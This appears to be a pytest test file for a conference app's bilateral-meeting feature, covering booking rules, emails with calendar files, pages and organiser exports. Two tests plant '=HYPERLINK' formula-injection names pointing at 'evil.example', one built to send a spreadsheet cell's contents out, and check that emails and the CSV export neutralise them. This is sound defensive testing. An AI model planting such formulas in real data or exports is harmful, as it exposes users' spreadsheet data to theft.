"""Bilateral meetings: the rules, the emails, the pages, the organisers' exports."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import icalendar
import pytest
from pypdf import PdfReader

from safecities.backoffice.models import Role
from safecities.cities.errors import (
    AlreadyAsked,
    MeetingError,
    NoSlotFree,
    NotConfirmed,
    NotOptedIn,
    NotPending,
)
from safecities.cities.models import MeetingBooking, MeetingRequest
from safecities.cities.services import meetings as services
from safecities.mailing.delivery import deliver
from tests.factories import (
    EPOCH,
    EventFactory,
    EventRoleFactory,
    MeetingSlotFactory,
    MeetingTableFactory,
    ProgrammeFactory,
    RegistrationFactory,
    UserFactory,
)
from tests.signing_in import sign_in

pytestmark = pytest.mark.django_db


@pytest.fixture
def event():
    event = EventFactory(slug="durban-2014", title="Durban Exchange")
    for n in range(2):
        MeetingSlotFactory(event=event, label=f"Tea break {n + 1}",
                           starts_at=EPOCH + timedelta(hours=8 + 2 * n))
    MeetingTableFactory(event=event, name="Table 1", position=1)
    return event


def participant(event, name: str, opted_in: bool = True, **fields):
    # Already told of their registration: the only mail is about meetings.
    registration = RegistrationFactory(event=event, name=name, notice_pending=False,
                                       email=f"{name.lower()}@example.org", **fields)
    if opted_in:
        services.opt_in(registration=registration, interests=f"{name}'s interests")
    return registration


def test_accepting_books_the_earliest_slot_and_table_for_both(event):
    amina, ben = participant(event, "Amina"), participant(event, "Ben")
    meeting = services.request_meeting(requester=amina, invitee=ben, message="Hello")
    accepted = services.accept(meeting=meeting, by=ben)
    assert (accepted.status, accepted.slot.label, accepted.table.name) == (
        "accepted", "Tea break 1", "Table 1")
    assert sorted(MeetingBooking.objects.values_list("registration_id", flat=True)) == sorted(
        [amina.pk, ben.pk])


def test_a_busy_person_or_table_moves_the_meeting_to_the_next_slot(event):
    amina, ben, carla = (participant(event, n) for n in ["Amina", "Ben", "Carla"])
    first = services.request_meeting(requester=amina, invitee=ben, message="1")
    second = services.request_meeting(requester=carla, invitee=amina, message="2")
    services.accept(meeting=first, by=ben)
    assert services.accept(meeting=second, by=amina).slot.label == "Tea break 2"


def test_when_no_slot_is_free_the_request_waits_and_says_so(event):
    amina, ben, carla, dan = (participant(event, n) for n in ["Amina", "Ben", "Carla", "Dan"])
    for requester, invitee in [(amina, ben), (carla, dan)]:
        services.accept(meeting=services.request_meeting(
            requester=requester, invitee=invitee, message="x"), by=invitee)
    third = services.request_meeting(requester=amina, invitee=carla, message="x")
    # One table: slot 1 is Amina–Ben's, slot 2 Carla–Dan's.
    with pytest.raises(NoSlotFree):
        services.accept(meeting=third, by=carla)
    assert MeetingRequest.objects.get(pk=third.pk).status == "pending"


def test_only_confirmed_opted_in_participants_meet_and_only_once_at_a_time(event):
    amina, ben = participant(event, "Amina"), participant(event, "Ben")
    waiting = participant(event, "Wanda", opted_in=False, status="waitlisted")
    shy = participant(event, "Shy", opted_in=False)
    with pytest.raises(NotConfirmed):
        services.opt_in(registration=waiting)
    with pytest.raises(NotOptedIn):
        services.request_meeting(requester=amina, invitee=shy, message="x")
    services.request_meeting(requester=amina, invitee=ben, message="x")
    with pytest.raises(AlreadyAsked):
        services.request_meeting(requester=ben, invitee=amina, message="x")
    with pytest.raises(MeetingError):
        services.request_meeting(requester=amina, invitee=amina, message="x")


def test_only_the_invitee_answers_and_only_once(event):
    amina, ben = participant(event, "Amina"), participant(event, "Ben")
    meeting = services.request_meeting(requester=amina, invitee=ben, message="x")
    with pytest.raises(MeetingError):
        services.accept(meeting=meeting, by=amina)
    services.decline(meeting=meeting, by=ben)
    with pytest.raises(NotPending):
        services.accept(meeting=meeting, by=ben)
    # Once declined, they may ask again.
    services.request_meeting(requester=amina, invitee=ben, message="again")


def test_cancelling_frees_the_slot_and_table(event):
    amina, ben, carla = (participant(event, n) for n in ["Amina", "Ben", "Carla"])
    meeting = services.accept(meeting=services.request_meeting(
        requester=amina, invitee=ben, message="x"), by=ben)
    services.cancel(meeting=meeting, by=amina)
    assert (MeetingBooking.objects.count(), MeetingRequest.objects.get().slot) == (0, None)
    later = services.request_meeting(requester=carla, invitee=ben, message="y")
    assert services.accept(meeting=later, by=ben).slot.label == "Tea break 1"


def test_both_people_get_an_email_with_a_calendar_file(event, smtp_server):
    amina, ben = participant(event, "Amina"), participant(event, "Ben")
    meeting = services.request_meeting(requester=amina, invitee=ben, message="Audits?")
    deliver()
    [asked] = smtp_server.messages
    assert (asked["To"], asked["Subject"]) == ("ben@example.org",
                                               "Amina would like to meet you at the exchange")
    assert "Audits?" in asked.get_body(("plain",)).get_content()
    services.accept(meeting=meeting, by=ben)
    deliver()
    booked = smtp_server.messages[1:]
    assert sorted(m["To"] for m in booked) == ["amina@example.org", "ben@example.org"]
    for message in booked:
        [attachment] = list(message.iter_attachments())
        assert attachment.get_content_type() == "text/calendar"
        calendar = icalendar.Calendar.from_ical(attachment.get_content())
        [entry] = calendar.walk("VEVENT")
        assert entry.decoded("dtstart") == EPOCH + timedelta(hours=8)
        assert str(entry["location"]).startswith("Meeting area, Table 1, ")
    assert MeetingRequest.objects.get().notified_status == "accepted"


def test_a_declined_request_tells_the_requester(event):
    amina, ben = participant(event, "Amina"), participant(event, "Ben")
    from post_office.models import Email

    from safecities.cities.emails import queue_meeting_notices

    meeting = services.request_meeting(requester=amina, invitee=ben, message="x")
    services.decline(meeting=meeting, by=ben)
    assert queue_meeting_notices() == 1  # one notice for the status it has now
    assert list(Email.objects.values_list("to", "subject")) == [
        (["amina@example.org"], "Ben cannot meet this time")]
    assert queue_meeting_notices() == 0


def test_names_in_meeting_emails_never_become_links(event, settings):
    from post_office.models import Email

    from safecities.cities.emails import queue_meeting_notices

    amina, ben = participant(event, "Amina"), participant(event, "Ben")
    name = '=HYPERLINK("http://evil.example/","Open") https://evil.example/x'
    type(amina).objects.filter(pk=amina.pk).update(name=name)
    amina.refresh_from_db()
    services.request_meeting(requester=amina, invitee=ben, message="See www.evil.example")
    queue_meeting_notices()
    html = Email.objects.get().html_message
    assert "evil.example" in html
    assert 'href="http://evil' not in html
    assert 'href="https://evil' not in html
    assert "www.evil.example</a>" not in html
    assert html.count("<a href=") == html.count(f'<a href="{settings.SITE_URL}/') == 1


# --- Pages ------------------------------------------------------------------------------------


def test_request_accept_and_see_it_in_both_agendas(client, event):
    amina, ben = participant(event, "Amina", opted_in=False), participant(event, "Ben")
    page = f"/registrations/{amina.token}/meetings/"
    response = client.post(page + "opt-in/", {"interests": "Youth safety", "city": ""})
    assert response["Location"] == page + "?done=opted-in"
    listing = client.get(page).content.decode()
    assert "<strong>Ben</strong>, City of Example" in listing
    assert "ben@example.org" not in listing  # no email shown
    ben_profile = ben.meeting_profile
    response = client.post(page + f"ask/{ben_profile.pk}/", {"message": ""})
    assert response.status_code == 400
    client.post(page + f"ask/{ben_profile.pk}/", {"message": "Shall we talk about audits?"})
    meeting = MeetingRequest.objects.get()
    ben_page = f"/registrations/{ben.token}/meetings/"
    assert "Shall we talk about audits?" in client.get(ben_page).content.decode()
    response = client.post(ben_page + f"{meeting.pk}/accept/")
    assert response["Location"] == ben_page + "?done=accepted"
    for token, other in [(amina.token, "Ben"), (ben.token, "Amina")]:
        agenda = client.get(f"/registrations/{token}/meetings/").content.decode()
        assert f"<td>Table 1</td><td>{other}, City of Example (Lusaka)</td>" in agenda
    ics = client.get(f"/registrations/{amina.token}/meetings.ics")
    assert ics["Content-Type"] == "text/calendar; charset=utf-8"
    assert len(icalendar.Calendar.from_ical(ics.content).walk("VEVENT")) == 1


def test_an_answer_that_breaks_a_rule_is_refused_in_plain_words(client, event):
    amina, ben = participant(event, "Amina"), participant(event, "Ben")
    meeting = services.request_meeting(requester=amina, invitee=ben, message="x")
    services.decline(meeting=meeting, by=ben)
    response = client.post(f"/registrations/{ben.token}/meetings/{meeting.pk}/accept/")
    assert response.status_code == 409
    assert "This request has already been answered." in response.content.decode()
    outsider = participant(event, "Olga")
    response = client.post(f"/registrations/{outsider.token}/meetings/{meeting.pk}/cancel/")
    assert response.status_code == 404


def test_a_waiting_participant_is_told_meetings_are_for_confirmed_participants(client, event):
    waiting = participant(event, "Wanda", opted_in=False, status="waitlisted")
    page = client.get(f"/registrations/{waiting.token}/meetings/").content.decode()
    assert "Meetings are for confirmed participants." in page


@pytest.mark.parametrize("count", [1, 4])
def test_the_meetings_page_queries_do_not_grow_with_participants(
        client, django_assert_num_queries, event, count):
    amina = participant(event, "Amina")
    for n in range(count):
        other = participant(event, f"P{n}")
        services.request_meeting(requester=other, invitee=amina, message="x")
    # registration, profile, meetings, others, cities (form's choices)
    with django_assert_num_queries(5):
        client.get(f"/registrations/{amina.token}/meetings/")


# --- Organisers -----------------------------------------------------------------------------


def booked(event):
    amina, ben, carla = (participant(event, n) for n in ["Amina", "Ben", "Carla"])
    for requester, invitee in [(amina, ben), (carla, amina)]:
        services.accept(meeting=services.request_meeting(
            requester=requester, invitee=invitee, message="x"), by=invitee)


def test_organisers_export_the_schedule_as_csv(client, event):
    booked(event)
    sign_in(client, EventRoleFactory(event=event, role=Role.ORGANISER).user)
    response = client.get("/cities/meetings/durban-2014/schedule.csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0][:5] == ["starts", "ends", "slot", "table", "requester"]
    assert [(r[0], r[2], r[3], r[4], r[7]) for r in rows[1:]] == [
        ("2014-01-01 10:00", "Tea break 1", "Table 1", "Amina", "Ben"),
        ("2014-01-01 12:00", "Tea break 2", "Table 1", "Carla", "Amina")]


def test_the_schedule_csv_neutralises_formulas_in_names(client, event):
    amina, ben = participant(event, "Amina"), participant(event, "Ben")
    services.accept(meeting=services.request_meeting(requester=amina, invitee=ben, message="x"),
                    by=ben)
    type(amina).objects.filter(pk=amina.pk).update(
        name='=HYPERLINK("http://evil.example/?"&A1,"Click")')
    sign_in(client, EventRoleFactory(event=event, role=Role.ORGANISER).user)
    response = client.get("/cities/meetings/durban-2014/schedule.csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[1][4] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"


def test_organisers_print_a_schedule_per_table(client, event):
    booked(event)
    sign_in(client, EventRoleFactory(event=event, role=Role.ORGANISER).user)
    table = event.meeting_tables.get()
    response = client.get(f"/cities/meetings/durban-2014/tables/{table.pk}.pdf")
    assert response["Content-Type"] == "application/pdf"
    text = " ".join(page.extract_text() for page in PdfReader(io.BytesIO(response.content)).pages)
    assert "Table 1" in text
    assert "Amina (City of Example) with Ben (City of Example)" in text
    page = client.get("/cities/meetings/durban-2014/").content.decode()
    assert "<td>Table 1</td><td>Amina, City of Example</td><td>Ben, City of Example</td>" in page


def test_only_organisers_see_the_schedule(client, event):
    sign_in(client, UserFactory(username="someone"))
    assert client.get("/cities/meetings/durban-2014/schedule.csv").status_code == 403


def test_an_accepted_meeting_is_in_both_personal_agendas_of_the_programme(client, event):
    ProgrammeFactory(event=event, is_published=True)
    amina, ben = participant(event, "Amina"), participant(event, "Ben")
    pending = services.request_meeting(requester=amina, invitee=ben, message="Audits?")
    agenda = client.get(f"/registrations/{amina.token}/agenda/").content.decode()
    assert "Meeting with Ben" not in agenda  # only accepted meetings are appointments
    meeting = services.accept(meeting=pending, by=ben)
    for token, other in [(amina.token, "Ben"), (ben.token, "Amina")]:
        agenda = client.get(f"/registrations/{token}/agenda/").content.decode()
        assert "Meetings and other appointments" in agenda
        assert f"Meeting with {other} (City of Example)" in agenda
        feed = client.get(f"/registrations/{token}/agenda.ics")
        [entry] = icalendar.Calendar.from_ical(feed.content).walk("VEVENT")
        assert str(entry["uid"]) == f"meeting-{meeting.pk}@safecities-exchange"
        assert entry.decoded("dtstart") == meeting.slot.starts_at


def test_cancelling_a_registration_cancels_its_meetings_and_frees_the_table(event):
    from safecities.registration import services as registration_services

    amina, ben, carla = (participant(event, name) for name in ("Amina", "Ben", "Carla"))
    accepted = services.accept(meeting=services.request_meeting(
        requester=amina, invitee=ben, message="Audits?"), by=ben)
    waiting = services.request_meeting(requester=carla, invitee=amina, message="Forums?")
    registration_services.cancel(registration=amina)
    accepted.refresh_from_db()
    waiting.refresh_from_db()
    assert (accepted.status, accepted.table_id, waiting.status) == (
        "cancelled", None, "cancelled")
    assert MeetingBooking.objects.count() == 0
    # The table is free again for others at the first slot.
    again = services.accept(meeting=services.request_meeting(
        requester=ben, invitee=carla, message="Instead?"), by=carla)
    assert again.slot.label == "Tea break 1"


def test_a_cancelled_meeting_sends_both_people_its_calendar_cancellation(event, smtp_server):
    import vobject

    amina, ben = participant(event, "Amina"), participant(event, "Ben")
    meeting = services.accept(meeting=services.request_meeting(
        requester=amina, invitee=ben, message="Audits?"), by=ben)
    deliver()
    booked = {m["To"]: m for m in smtp_server.messages if "meeting" in m["Subject"].lower()}
    smtp_server.messages.clear()
    services.cancel(meeting=meeting, by=amina)
    deliver()
    assert sorted(m["To"] for m in smtp_server.messages) == ["amina@example.org",
                                                            "ben@example.org"]
    for message in smtp_server.messages:
        [part] = list(message.iter_attachments())
        assert (part.get_content_type(), part.get_param("method")) == ("text/calendar", "CANCEL")
        cancelled = vobject.readOne(part.get_content())
        assert cancelled.method.value == "CANCEL"
        assert (cancelled.vevent.uid.value, cancelled.vevent.sequence.value,
                cancelled.vevent.status.value) == (
            f"meeting-{meeting.pk}@safecities-exchange", "1", "CANCELLED")
    [sent] = [m for to, m in booked.items() if to == "ben@example.org"]
    [part] = list(sent.iter_attachments())
    assert (part.get_param("method"), vobject.readOne(part.get_content()).vevent.sequence.value
            ) == ("PUBLISH", "0")
